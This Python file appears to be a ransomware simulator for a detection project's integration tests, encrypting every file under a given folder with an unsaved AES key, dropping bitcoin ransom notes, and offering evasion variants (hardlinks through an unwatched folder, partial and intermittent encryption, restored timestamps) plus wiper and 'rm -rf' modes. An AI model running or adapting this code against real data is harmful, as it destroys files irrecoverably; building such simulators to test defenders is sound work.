"""Ransomware simulator: the attacker of the detection tests. Run it as its own process.

    python tests/integration/ransim.py --variant inplace --dir DATA --progress P [--delay S]

The defender may SIGSTOP or kill it, so it must never be the test process. It lists every
regular file under ``--dir`` once, walks them in a seeded random order and damages each with
AES-256-CTR under a random key that is never saved. It knows nothing of canaries and skips
nothing but its own ransom notes (and its progress file). After each file it appends
``done <relative path>`` to the progress file, or ``failed <relative path> <ERRNO>`` when the
file system refused (immutable file, file gone, ...), and goes on; at the end ``finished``.

Variants: inplace (encrypt, rename to .locked, ransom note per folder), new-then-delete
(write <name>.enc, fsync, delete the original), rename-ext (rename to a random extension,
then encrypt), partial (first 4096 bytes only), slow (whole file, 2 s between files),
keep-ext (whole file, times restored), base64 (ciphertext base64-encoded, ~6 bits/byte),
intermittent (files over 72 KB: the first 4 KiB and the last 64 KiB kept, 64 KiB of every
128 KiB between encrypted), open-all (open every file first, then write each, then close
them all), hardlink (link each file into ``--outside``, a folder on the same file system
that nobody watches, encrypt through the link, unlink it), wiper (delete every .pdf and
.csv), rm-rf (become ``rm -rf`` of everything under the folder).

Only the standard library and ``cryptography``: no import from the test package.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import errno
import os
import random
import stat
import string
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import BinaryIO

from cryptography.hazmat.primitives.ciphers import Cipher, CipherContext, algorithms, modes

NOTE_NAME = "HOW_TO_DECRYPT_FILES.txt"
NOTE_TEXT = """\
!!! YOUR FILES ARE ENCRYPTED !!!

All your documents, databases and photos have been encrypted with AES-256.
Do not rename or modify them: you will lose them forever.

To decrypt your files, send 0.5 bitcoin (BTC) to the wallet below and write to us
with your ID. You will receive the decryption program and your key.

Wallet: bc1qsimulatedransomwallet0000000000000000
ID: {victim}
"""
PARTIAL_BYTES = 4096
BLOCK = 1 << 20
VARIANTS = ("inplace", "new-then-delete", "rename-ext", "partial", "slow", "keep-ext", "base64",
            "intermittent", "open-all", "hardlink", "wiper", "rm-rf")
INTERMITTENT_MIN = 72 * 1024
DEFAULT_DELAY = {"slow": 2.0}


class Attacker:
    """Damages files one by one; each variant is a method named after it."""

    def __init__(self, root: Path, variant: str, rng: random.Random,
                 outside: Path | None = None) -> None:
        if variant not in VARIANTS:
            raise ValueError(f"unknown variant {variant!r}; one of {', '.join(VARIANTS)}")
        self.root = root
        self.outside = outside or root.parent / ".ransim-links"
        self.rng = rng
        self.key = os.urandom(32)
        self.noted: set[Path] = set()
        self.damage: Callable[[Path], None] = getattr(self, variant.replace("-", "_"))

    def cipher(self) -> CipherContext:
        return Cipher(algorithms.AES(self.key), modes.CTR(os.urandom(16))).encryptor()

    def encrypt_in_place(self, path: Path, limit: int | None = None) -> None:
        """Overwrite the file (or its first ``limit`` bytes) with ciphertext, block by block."""
        enc = self.cipher()
        with path.open("r+b") as f:
            pos = 0
            while limit is None or pos < limit:
                want = BLOCK if limit is None else min(BLOCK, limit - pos)
                plain = f.read(want)
                if not plain:
                    break
                f.seek(pos)
                f.write(enc.update(plain))
                pos += len(plain)
            _sync(f)

    def drop_note(self, folder: Path) -> None:
        if folder in self.noted:
            return
        self.noted.add(folder)
        with contextlib.suppress(OSError):  # no note here; the files matter more
            (folder / NOTE_NAME).write_text(NOTE_TEXT.format(victim=self.key[:6].hex()))

    def inplace(self, path: Path) -> None:
        self.drop_note(path.parent)
        self.encrypt_in_place(path)
        path.rename(path.with_name(path.name + ".locked"))

    def new_then_delete(self, path: Path) -> None:
        enc = self.cipher()
        with path.open("rb") as src, path.with_name(path.name + ".enc").open("wb") as dst:
            while block := src.read(BLOCK):
                dst.write(enc.update(block))
            _sync(dst)
        path.unlink()

    def rename_ext(self, path: Path) -> None:
        alphabet = string.ascii_lowercase + string.digits
        suffix = "".join(self.rng.choice(alphabet) for _ in range(5))
        renamed = path.with_name(f"{path.stem}.{suffix}")
        path.rename(renamed)
        self.encrypt_in_place(renamed)

    def partial(self, path: Path) -> None:
        self.encrypt_in_place(path, PARTIAL_BYTES)

    def slow(self, path: Path) -> None:
        self.encrypt_in_place(path)

    def keep_ext(self, path: Path) -> None:
        before = path.stat()
        self.encrypt_in_place(path)
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))

    def base64(self, path: Path) -> None:
        with path.open("r+b") as f:
            encoded = base64.b64encode(self.cipher().update(f.read()))
            f.seek(0)
            f.write(encoded)
            f.truncate()
            _sync(f)


    def intermittent(self, path: Path) -> None:
        size = path.stat().st_size
        if size <= INTERMITTENT_MIN:
            return
        enc = self.cipher()
        with path.open("r+b") as f:
            at, end = 4096, size - 65536
            while at < end:
                f.seek(at)
                plain = f.read(min(65536, end - at))
                f.seek(at)
                f.write(enc.update(plain))
                at += 131072
            _sync(f)

    def hardlink(self, path: Path) -> None:
        self.outside.mkdir(exist_ok=True)
        link = self.outside / f"{self.rng.getrandbits(64):016x}"
        os.link(path, link)
        try:
            self.encrypt_in_place(link)
        finally:
            link.unlink()

    def wiper(self, path: Path) -> None:
        if path.suffix.lower() in (".pdf", ".csv"):
            path.unlink()

    def open_all(self, path: Path) -> None:
        raise AssertionError("open-all runs as a whole: see open_all_then_write")

    def rm_rf(self, path: Path) -> None:
        raise AssertionError("rm-rf runs as a whole: see become_rm")


def open_all_then_write(targets: Sequence[Path], attacker: Attacker, report: Progress
                        ) -> tuple[int, int]:
    """Every file opened before any is written (the open gate answered them all while the
    attacker was unknown), then each written in full, then all closed."""
    opened: list[tuple[Path, BinaryIO]] = []
    failed = 0
    for path in targets:
        try:
            opened.append((path, path.open("r+b")))
        except OSError:
            failed += 1
    done = 0
    for path, f in opened:

        def write(_: Path, f: BinaryIO = f) -> None:
            data = f.read()
            f.seek(0)
            f.write(attacker.cipher().update(data))
            f.flush()

        ok = damage_one(path, attacker.root, write, report)
        done, failed = done + ok, failed + (not ok)
    for _, f in opened:
        with contextlib.suppress(OSError):
            f.close()
    return done, failed


def damage_one(path: Path, root: Path, damage: Callable[[Path], None], report: Progress) -> bool:
    """Damage one file and report it: ``done REL``, or ``failed REL ERRNO`` (and go on)."""
    rel = path.relative_to(root).as_posix()
    try:
        damage(path)
    except OSError as e:
        report.line(f"failed {rel} {errno.errorcode.get(e.errno or 0, 'EUNKNOWN')}")
        return False
    report.line(f"done {rel}")
    return True


def become_rm(root: Path, report: Progress) -> None:
    """This process becomes ``rm -rf`` of everything under ``root`` (same pid)."""
    report.line("rm -rf")
    report.close()
    entries = sorted(str(p) for p in root.iterdir())
    os.execvp("rm", ["rm", "-rf", "--", *entries])  # noqa: S606 - an argv, no shell


def _sync(f: BinaryIO) -> None:
    f.flush()
    os.fsync(f.fileno())


def victims(root: Path, rng: random.Random, own: Sequence[Path] = ()) -> list[Path]:
    """Every regular file under ``root`` (not our notes or ``own`` files), shuffled."""
    skip = {p.resolve() for p in own}
    found: list[Path] = []
    for folder, dirs, files in os.walk(root):
        dirs.sort()
        for name in sorted(files):
            path = Path(folder, name)
            if name == NOTE_NAME or path.resolve() in skip:
                continue
            try:
                regular = stat.S_ISREG(path.lstat().st_mode)
            except OSError:
                continue  # gone while we were listing
            if regular:
                found.append(path)
    rng.shuffle(found)
    return found


class Progress:
    """The line protocol the tests read: appended, flushed and fsynced line by line."""

    def __init__(self, path: Path | None) -> None:
        self.file = path.open("a", encoding="utf-8") if path is not None else None

    def line(self, text: str) -> None:
        if self.file is not None:
            self.file.write(text + "\n")
            self.file.flush()
            os.fsync(self.file.fileno())

    def close(self) -> None:
        if self.file is not None:
            self.file.close()


def attack(root: Path, variant: str, *, seed: int = 0, delay: float | None = None,
           progress: Path | None = None, limit: int | None = None,
           files: Sequence[Path] | None = None) -> tuple[int, int]:
    """Damage the files under ``root`` (or ``files``); return (done, failed)."""
    rng = random.Random(seed)  # noqa: S311 - the walk order, not the key
    attacker = Attacker(root, variant, rng)
    pause = DEFAULT_DELAY.get(variant, 0.0) if delay is None else delay
    own = [progress] if progress is not None else []
    targets = list(files) if files is not None else victims(root, rng, own)
    if limit is not None:
        targets = targets[:limit]
    report = Progress(progress)
    done = failed = 0
    if variant == "rm-rf":
        become_rm(root, report)
    if variant == "open-all":
        try:
            done, failed = open_all_then_write(targets, attacker, report)
            report.line("finished")
        finally:
            report.close()
        return done, failed
    try:
        for i, path in enumerate(targets):
            if i and pause > 0:
                time.sleep(pause)
            ok = damage_one(path, root, attacker.damage, report)
            done, failed = done + ok, failed + (not ok)
        report.line("finished")
    finally:
        report.close()
    return done, failed


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--variant", required=True, choices=VARIANTS)
    parser.add_argument("--dir", required=True, type=Path)
    parser.add_argument("--delay", type=float, default=None,
                        help="seconds between files (default 0; 2.0 for slow)")
    parser.add_argument("--seed", type=int, default=0, help="seed of the walk order")
    parser.add_argument("--progress", type=Path, default=None)
    parser.add_argument("--limit", type=int, default=None, help="stop after N files")
    parser.add_argument("--only", default=None, help="only the files matching this glob "
                        "(relative to --dir), in name order")
    args = parser.parse_args(argv)
    files = sorted(args.dir.glob(args.only)) if args.only else None
    attack(args.dir, args.variant, seed=args.seed, delay=args.delay, progress=args.progress,
           limit=args.limit, files=files)
    return 0


if __name__ == "__main__":
    sys.exit(main())
